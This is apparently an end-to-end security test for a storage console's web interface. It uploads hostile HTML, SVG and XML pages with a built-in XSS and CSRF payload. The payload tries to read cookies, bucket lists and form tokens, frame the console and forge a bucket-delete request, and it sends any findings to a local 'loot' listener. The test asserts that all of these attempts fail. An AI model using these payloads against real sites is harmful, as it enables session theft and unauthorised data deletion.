// Pages that somebody has stored among the objects, opened by a person who is signed in: they read nothing of the console and do nothing in the person's name.
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { CreateBucketCommand, HeadBucketCommand, PutBucketPolicyCommand, PutObjectCommand } from "@aws-sdk/client-s3";
import { at, end, expected, objects, opened, run, s3 } from "./browser.mjs";

// What a page got hold of, it tells here.
const told = [];
const loot = createServer((request, answer) => { told.push(decodeURIComponent(request.url)); answer.writeHead(204, { "Access-Control-Allow-Origin": "*" }).end(); });
await new Promise((listening) => loot.listen(0, "127.0.0.1", listening));
const to = `http://127.0.0.1:${loot.address().port}/`;
expected.push(/Content.Security.Policy|sandboxed|CORS policy|ERR_FAILED|Blocked script|X-Frame-Options|Refused to|frame-ancestors|ERR_BLOCKED/i);

const Bucket = `attack-${run}`, victim = `victim-${run}`;
for (const each of [Bucket, victim]) await s3.send(new CreateBucketCommand({ Bucket: each }));
await s3.send(new PutBucketPolicyCommand({ Bucket, Policy: JSON.stringify({ Version: "2012-10-17", Statement: { Effect: "Allow", Principal: "*", Action: "s3:GetObject", Resource: `arn:aws:s3:::${Bucket}/*` } }) }));

// Each way in, tried by itself; what worked is told, and the end.
const script = `
const took = (what) => fetch(${JSON.stringify(to)} + encodeURIComponent(what), { mode: "no-cors" });
const at = ${JSON.stringify(at)}, victim = ${JSON.stringify(victim)};
const ways = {
  read: async () => { const text = await (await fetch(at + "/buckets/" + victim + "/delete", { credentials: "include" })).text(); if (text.includes('name="form"')) await took("read the form's token"); },
  xhr: () => new Promise((done) => { const x = new XMLHttpRequest(); x.withCredentials = true; x.open("GET", at + "/buckets"); x.onload = async () => { if (x.responseText.includes(victim)) await took("read the buckets"); done(); }; x.onerror = done; x.send(); }),
  post: async () => { await fetch(at + "/buckets/" + victim + "/delete", { method: "POST", mode: "no-cors", credentials: "include", body: new URLSearchParams({ name: victim, form: "guess" }) }); },
  cookie: async () => { if (document.cookie.includes("zenkofn-console")) await took("read the cookie"); },
  storage: async () => { localStorage.length; if (location.origin === new URL(at).origin) await took("is of the console's origin"); },
  frame: () => new Promise((done) => { const f = document.createElementNS("http://www.w3.org/1999/xhtml", "iframe"); f.src = at + "/buckets"; f.onload = async () => { try { if (f.contentDocument.body.textContent.includes(victim)) await took("framed the console"); } catch {} done(); }; document.documentElement.append(f); setTimeout(done, 3000); }),
  open: async () => { const w = window.open(at + "/buckets"); if (w) { for (let i = 0; i < 20; i++) { await new Promise((d) => setTimeout(d, 50)); try { if (w.document.body.textContent.includes(victim)) { await took("opened the console"); break; } } catch {} } w.close(); } },
};
(async () => { await took("runs"); for (const way of Object.values(ways)) { try { await way(); } catch {} } await took("is through"); })();`;
const form = `<form method="post" action="${at}/buckets/${victim}/delete"><input name="name" value="${victim}"><input name="form" value="guess"><button>Press here</button></form>`;
const pages = {
  "evil.html": ["text/html", `<!DOCTYPE html><title>evil</title>${form}<script>${script}</script><img src="x" onerror="${script.replaceAll("&", "&amp;").replaceAll('"', "&quot;")}">`],
  "evil.svg": ["image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"><text y="20">evil</text><script><![CDATA[${script}]]></script></svg>`],
  "evil.xml": ["text/xml", `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><script><![CDATA[${script}]]></script></body></html>`],
  // Without a type, or with a wrong one, for a browser that guesses.
  "evil.bin": ["application/x-unknown", `<!DOCTYPE html><script>${script}</script>`],
};
for (const [Key, [ContentType, Body]] of Object.entries(pages)) await s3.send(new PutObjectCommand({ Bucket, Key, Body, ContentType }));

const page = await opened("buckets");
const isAmongObjects = new URL(at).origin === new URL(objects).origin;
for (const Key of Object.keys(pages)) {
  const tab = await page.context().newPage();
  const before = told.length;
  await tab.goto(`${objects}/${Bucket}/${Key}`).catch((e) => assert.match(String(e), /ERR_ABORTED|Download/));
  if (isAmongObjects) {
    // Shown, but nothing in it runs: what it would begin with has been done by now.
    await tab.waitForLoadState();
    assert.equal(told.length, before, `${Key}: ${told.slice(before)}`);
  } else if (Key !== "evil.bin") {
    // It has an origin of its own, and runs there; nothing came of it.
    for (const limit = Date.now() + 120_000; !told.slice(before).some((what) => what === "/is through");) {
      assert.ok(Date.now() < limit, `${Key} runs to its end`);
      await new Promise((done) => setTimeout(done, 20));
    }
    assert.deepEqual(told.slice(before).filter((what) => !["/runs", "/is through"].includes(what)), [], Key);
  }
  if (Key === "evil.html") {
    // Pressed by the person: neither without a token, nor from another site.
    await Promise.all([tab.waitForEvent("framenavigated").catch(() => {}), tab.getByRole("button", { name: "Press here" }).click({ noWaitAfter: true, timeout: isAmongObjects ? 3000 : 120_000 }).catch(() => {})].slice(isAmongObjects ? 1 : 0));
    if (!isAmongObjects) await tab.getByRole("heading", { name: "This form was sent by another site" }).waitFor();
  }
  await tab.close();
}
await s3.send(new HeadBucketCommand({ Bucket: victim }));
// The person is still signed in, and does what the page could not.
await page.goto(`${at}/buckets/${victim}/delete`);
await page.getByLabel("Type the bucket’s name").fill(victim);
await page.getByRole("button", { name: "Delete bucket" }).click();
await page.getByRole("status").filter({ hasText: "was deleted" }).waitFor();
loot.closeAllConnections();
loot.close();
await end();
